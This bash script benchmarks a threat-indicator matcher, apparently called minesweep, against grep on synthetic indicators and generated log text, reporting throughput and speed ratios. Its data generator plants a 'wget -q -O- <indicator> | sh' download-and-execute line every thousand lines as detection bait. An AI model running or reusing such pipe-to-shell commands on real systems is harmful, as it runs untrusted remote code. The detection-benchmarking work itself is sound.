#!/usr/bin/env bash
# Indicator matching in free text: minesweep's matcher (intel_scan, 1 and 2 threads) against `grep -F -c -f`
# (GNU grep's multi-pattern search) on the same generated input, in one run. Prints MB/s and the ratio.
#   bench/peers_intel.sh [build dir, default build/dev] [indicators, default 100000] [MiB of text, default 1024]
# The indicators are synthetic (random domains, IPv4 addresses, SHA-256 hashes, URLs); the text is command-line and
# log-like lines with about one indicator per thousand lines, so both tools must read everything.
set -euo pipefail
build=${1:-build/dev}
n=${2:-100000}
mib=${3:-1024}
bin=$build/bench/intel_scan
[[ -x "$bin" ]] || { echo "build the benchmark first: cmake --build $build --target intel_scan" >&2; exit 2; }
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
python3 - "$work" "$n" "$mib" <<'PY'
import hashlib, random, sys
work, n, mib = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
rnd = random.Random(7)
words = ["update", "cdn", "pool", "api", "node", "mirror", "static", "files", "dl", "sync"]
tlds = ["com", "net", "org", "xyz", "ru", "info", "top", "pw"]
inds = []
for i in range(n):
    k = i % 4
    if k == 0: inds.append(f"{rnd.choice(words)}{i}.{rnd.choice(words)}-{rnd.randrange(10**6)}.{rnd.choice(tlds)}")
    elif k == 1: inds.append(f"{rnd.randrange(1, 223)}.{rnd.randrange(256)}.{rnd.randrange(256)}.{rnd.randrange(1, 255)}")
    elif k == 2: inds.append(hashlib.sha256(str(i).encode()).hexdigest())
    else: inds.append(f"http://{rnd.choice(words)}{i}.example{rnd.randrange(1000)}.net/{rnd.choice(words)}/{i}.sh")
open(f"{work}/indicators.txt", "w").write("\n".join(inds) + "\n")
templates = [
    "2026-11-21T10:{m:02d}:{s:02d} host sshd[{p}]: Accepted publickey for deploy from 10.0.{a}.{b} port {p} ssh2",
    "/usr/bin/python3 /opt/app/worker.py --queue jobs-{p} --host db{a}.internal.example.com --port 5432",
    "curl -fsS https://api{a}.service.example.org/v1/health?id={p} -o /dev/null",
    "GET /static/js/app.{p}.js HTTP/1.1 200 {p} \"Mozilla/5.0 (X11; Linux x86_64)\" 192.168.{a}.{b}",
    "sha256 of /usr/lib/x86_64-linux-gnu/libc.so.6 {h}",
]
target = mib << 20
with open(f"{work}/text.txt", "w") as f:
    written, line_no = 0, 0
    block = []
    while written < target:
        line_no += 1
        if line_no % 1000 == 0:
            line = "wget -q -O- " + rnd.choice(inds) + " | sh"
        else:
            line = rnd.choice(templates).format(m=line_no % 60, s=line_no % 60, p=rnd.randrange(65535), a=rnd.randrange(256),
                                               b=rnd.randrange(256), h=hashlib.md5(str(line_no).encode()).hexdigest())
        block.append(line)
        written += len(line) + 1
        if len(block) == 10000:
            f.write("\n".join(block) + "\n")
            block = []
    if block: f.write("\n".join(block) + "\n")
PY
bytes=$(stat -c %s "$work/text.txt")
cat "$work/text.txt" > /dev/null  # page cache warm for both
now() { date +%s.%N; }
t0=$(now)
grep_lines=$(LC_ALL=C grep -F -c -f "$work/indicators.txt" "$work/text.txt" || true)
t1=$(now)
read -r _ ms1 ms1_lines count < <("$bin" "$work/indicators.txt" "$work/text.txt" 1)
read -r _ ms2 ms2_lines _ < <("$bin" "$work/indicators.txt" "$work/text.txt" 2)
grep_s=$(echo "$t1 - $t0" | bc)
awk -v b="$bytes" -v g="$grep_s" -v m1="$ms1" -v m2="$ms2" -v n="$count" -v gl="$grep_lines" -v l1="$ms1_lines" -v l2="$ms2_lines" 'BEGIN {
  mb = b / 1048576
  printf "input                     %.0f MiB of text, %d indicators\n", mb, n
  printf "grep -F -c -f (LC_ALL=C)  %7.2f s  %8.1f MB/s  (%d matching lines)\n", g, mb / g, gl
  printf "minesweep, 1 thread       %7.2f s  %8.1f MB/s  (%d matching lines)\n", m1, mb / m1, l1
  printf "minesweep, 2 threads      %7.2f s  %8.1f MB/s  (%d matching lines)\n", m2, mb / m2, l2
  printf "ratio (grep / minesweep)  %.1fx on 1 thread, %.1fx on 2 threads (target: 5x)\n", g / m1, g / m2 }'
